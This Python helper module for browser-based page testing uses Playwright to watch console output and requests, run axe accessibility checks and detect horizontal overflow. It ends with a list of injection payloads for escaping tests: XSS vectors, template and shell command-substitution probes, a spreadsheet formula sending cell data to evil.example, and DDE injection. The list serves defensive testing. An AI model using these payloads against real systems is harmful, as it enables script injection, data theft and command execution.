"""A browser, pages whose console and requests are watched, and what is asked of any page."""

from __future__ import annotations

import contextlib
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from axe_playwright_python import base as axe
from bs4 import BeautifulSoup
from playwright.sync_api import Browser, Error, Page, ViewportSize, sync_playwright

FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]

#: What looks for barriers, and the widths a page is looked at.
AXE = (Path(axe.__file__).parent / "axe.min.js").read_text("utf-8")
WIDTHS = (360, 768, 1440)
SIZE = ViewportSize(width=1440, height=900)


@contextlib.contextmanager
def started(chromium: str) -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=FLAGS)
        yield browser
        browser.close()


#: What comes of pictures, of a refresh and of animations has come: each by its own event.
_SETTLED = """async () => {
  const ended = one => new Promise(done =>
    ["load", "error"].forEach(event => one.addEventListener(event, done)));
  const waited = one => !one.complete && one.loading !== "lazy";
  await Promise.all([...document.images].filter(waited).map(ended));
  await new Promise(setTimeout);
  for (let frame = 0; frame < 2; frame++) await new Promise(requestAnimationFrame);
}"""


@dataclass
class Watched:
    """An open page with all that it said on the console and asked for."""

    page: Page
    file: Path = Path()
    messages: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)

    def turn_to(self, file: Path) -> None:
        """Open a file as nobody has seen it."""
        self.page.emulate_media(media="null", color_scheme="light")
        self.page.set_viewport_size(SIZE)
        self.messages.clear()
        self.asked.clear()
        self.file = file
        self.page.goto(file.as_uri())

    def settle(self) -> None:
        """Wait until what the page does by itself is done; one that leaves is gone by then."""
        with contextlib.suppress(Error):
            self.page.evaluate(_SETTLED)

    @property
    def html(self) -> str:
        return self.file.read_text("utf-8")

    def strangers(self) -> list[str]:
        """What it asked for that is neither the file nor held in it."""
        own = (self.file.as_uri(), "data:", "blob:")
        return [url for url in self.asked if not url.startswith(own)]

    def items(self, selector: str) -> list[dict[str, Any]]:
        """Attributes of all elements that a selector finds, and their texts."""
        elements: list[dict[str, Any]] = self.page.evaluate(
            """selector => [...document.querySelectorAll(selector)].map(e => ({
                 text: e.textContent.trim(),
                 ...Object.fromEntries([...e.attributes].map(a => [a.name, a.value]))}))""",
            selector,
        )
        return elements


def watch(browser: Browser, file: Path | None = None, **context: Any) -> Watched:
    own = browser.new_context(viewport=SIZE, reduced_motion="reduce", **context)
    page = own.new_page()
    watched = Watched(page)
    page.on("console", lambda m: watched.messages.append(f"{m.type}: {m.text}"))
    page.on("pageerror", lambda error: watched.messages.append(f"error: {error}"))
    page.on("request", lambda request: watched.asked.append(request.url))
    if file:
        watched.turn_to(file)
    return watched


def violations(page: Page, *rules: str) -> list[str]:
    """What axe finds on a page, by all its rules or by some."""
    if not page.evaluate("typeof axe === 'object'"):
        page.evaluate(AXE)
    options: dict[str, Any] = {"resultTypes": ["violations"]}
    if rules:
        options["runOnly"] = rules
    report = page.evaluate("options => axe.run(document, options)", options)
    return [
        f"{rule['id']}: {node['html'][:150]}"
        for rule in report["violations"]
        for node in rule["nodes"]
    ]


def wide(page: Page, *widths: int) -> list[int]:
    """Widths at which the page must be moved sideways to be read."""
    too_narrow = []
    for width in widths or WIDTHS:
        page.set_viewport_size({"width": width, "height": 900})
        if page.evaluate("document.documentElement.scrollWidth") > width:
            too_narrow.append(width)
    page.set_viewport_size(SIZE)
    return too_narrow


#: Attributes of any element whose address a browser loads.
LOADING = {"src", "srcset", "poster", "data", "action", "formaction", "background"}


def loaded(page: BeautifulSoup) -> list[str]:
    """Every place where a page could make a browser load something."""
    addresses = []
    for element in page.find_all(True):
        links = set() if element.name in {"a", "use"} else {"href", "xlink:href"}
        for name, value in element.attrs.items():
            if name in LOADING | links:
                addresses.append(str(value))
            elif name in {"style", "fill", "clip-path", "mask", "filter"}:
                addresses += re.findall(r"url\(\s*['\"]?([^)'\"]*)", str(value))
    for style in page("style"):
        addresses += re.findall(r"(?:url\(|@import)\s*['\"]?([^)'\";]*)", style.text)
    return [address for address in addresses if not address.startswith(("data:", "#"))]


RUN = "document.documentElement.dataset.pwned=1"
#: What would run in a page that wrote it as it is; each also says in which way it tried.
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}></svg>",
    f'"><b onmouseover={RUN}>bold</b>',
    f"' onclick='{RUN}' x='",
    f"[x](javascript:{RUN})",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "{{7*7}} {% raw %} ${7*7}",
    "$(touch pwned) `touch pwned`",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]></script></title></textarea><script>{RUN}</script>",
    f"<a href=javascript:{RUN}>link</a><iframe srcdoc='<script>parent.{RUN}</script>'>",
    "$$ <b>maths</b> $$ \\(x\\)",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
)
